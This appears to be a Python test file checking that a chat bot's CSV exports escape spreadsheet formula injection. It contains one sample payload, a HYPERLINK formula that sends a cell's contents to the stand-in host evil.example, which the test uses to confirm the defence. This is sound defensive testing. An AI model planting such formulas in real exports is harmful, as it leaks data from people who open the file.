"""Every CSV the project writes goes through one writer that keeps formulas as text (CSV formula injection)."""

import csv
import io
import re
from pathlib import Path

from bot.core.csvsafe import csv_bytes

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


async def test_a_question_that_looks_like_a_formula_stays_text_in_the_dashboard_export(console) -> None:  # type: ignore[no-untyped-def]
    for i, text in enumerate([FORMULA, FORMULA, "+84 cộng", "@SUM(A1)", "-2+3"]):
        resp = await console.post("/api/chat", json={"session": f"csv{i}", "text": text})
        assert resp.status == 200
    editor = await console.agent("editor")
    body = (await (await editor.get("/admin/dashboard.csv?days=7")).read()).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-\D", c)]


def test_the_safe_writer_prefixes_every_formula_start_and_leaves_numbers_and_plain_text_alone() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], [
        ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "x=1", -3, 2.5, "Hòa giải"]]).decode("utf-8-sig"))))
    assert rows == [["a", "b"], ["'=1+1", "'+1", "'-x", "'@x", "'\tx", "'\rx", "x=1", "-3", "2.5", "Hòa giải"]]


def test_no_module_but_the_safe_writer_writes_csv() -> None:
    writers = sorted(str(path.relative_to(ROOT)) for folder in ("bot", "admin", "bench")
                     for path in (ROOT / folder).rglob("*.py")
                     if re.search(r"^\s*(import csv|from csv import)", path.read_text(encoding="utf-8"), re.M))
    assert writers == ["bot/core/csvsafe.py"]
